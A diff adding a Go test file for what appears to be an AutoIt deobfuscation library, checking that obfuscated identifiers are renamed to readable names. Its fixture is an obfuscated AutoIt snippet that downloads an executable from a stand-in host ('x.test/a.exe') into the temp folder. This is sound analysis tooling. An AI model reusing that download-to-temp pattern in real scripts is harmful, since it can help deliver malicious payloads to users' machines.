@@ -0,0 +1,97 @@
+package tests
+
+import (
+	"github.com/x0r19x91/libautoit/ast"
+	"github.com/x0r19x91/libautoit/parser"
+	"github.com/x0r19x91/libautoit/rename"
+	"github.com/x0r19x91/libautoit/udf"
+	"strings"
+	"testing"
+)
+
+const renamed = `Global $A1B2C3D4E5 = "http://x.test/a.exe"
+Global $Wq1e2r3t4y = 5
+Fqx7zj($A1B2C3D4E5, @TempDir & "\a.exe")
+Call("Kz9x8c7v")
+
+Func Fqx7zj($Zq8w1x9, $Kp3m7t2)
+	Local $Xz9q8w7 = InetGet($Zq8w1x9, $Kp3m7t2)
+	Local $Hk2j3l4 = FileOpen($Kp3m7t2)
+	InetClose($Xz9q8w7)
+	Return FileRead($Hk2j3l4)
+EndFunc
+
+Func Kz9x8c7v()
+EndFunc
+
+Func Qz7x8c9v($Aq1w2e3r, $Zx9c8v7b)
+	Local $Pl0o9i8u = ""
+	For $Mn5b6v7c = 1 To $Zx9c8v7b
+		$Pl0o9i8u &= $Aq1w2e3r
+	Next
+	Return $Pl0o9i8u
+EndFunc
+`
+
+func TestRename(t *testing.T) {
+	script, err := parser.ParseSource([]byte(renamed))
+	if err != nil {
+		t.Fatal(err)
+	}
+	db := udf.NewDB()
+	db.AddInclude("String.au3", []byte(fakeInclude))
+	renames := rename.Apply(script, rename.Options{
+		DB:  db,
+		Map: map[string]string{"$A1B2C3D4E5": "$sPayloadUrl"},
+	})
+	src := ast.Format(script)
+	for _, want := range []string{
+		`Global $sPayloadUrl = "http://x.test/a.exe"`,
+		`Global $iValue = 5`,
+		`_Func_Download($sPayloadUrl, @TempDir & "\a.exe")`,
+		`Func _Func_Download($sUrl, $sFile)`,
+		`Local $hDownload = InetGet($sUrl, $sFile)`,
+		`Local $hFile = FileOpen($sFile)`,
+		`Return FileRead($hFile)`,
+		// named in a string, Call needs it
+		`Func Kz9x8c7v()`,
+		`Func _StringRepeat($sString, $iRepeatCount)`,
+		`For $i = 1 To $iRepeatCount`,
+		`$sResult &= $sString`,
+	} {
+		if !strings.Contains(src, want) {
+			t.Errorf("missing %q in:\n%s", want, src)
+		}
+	}
+	reasons := make(map[string]string)
+	for _, rn := range renames {
+		reasons[rn.Old] = rn.Reason
+	}
+	if reasons["A1B2C3D4E5"] != rename.ByMap || reasons["Qz7x8c9v"] != rename.ByUDF || reasons["Hk2j3l4"] != rename.ByUsage {
+		t.Errorf("reasons = %v", reasons)
+	}
+
+	// the names found can be applied to another copy
+	again, _ := parser.ParseSource([]byte(renamed))
+	rename.Apply(again, rename.Options{Map: rename.Names(renames)})
+	if src := ast.Format(again); !strings.Contains(src, `_Func_Download($sPayloadUrl, `) || !strings.Contains(src, `Func _StringRepeat(`) {
+		t.Errorf("map not applied:\n%s", ast.Format(again))
+	}
+}
+
+func TestObfuscatedNames(t *testing.T) {
+	for name, want := range map[string]bool{
+		"A1B2C3D4E5":    true,
+		"Fqx7zj":        true,
+		"aKzPqRtYwX":    true,
+		"hFile":         false,
+		"sUrl":          false,
+		"_StringRepeat": false,
+		"GUICtrlCreate": false,
+		"iRepeatCount":  false,
+	} {
+		if got := rename.Obfuscated(name); got != want {
+			t.Errorf("Obfuscated(%q) = %v", name, got)
+		}
+	}
+}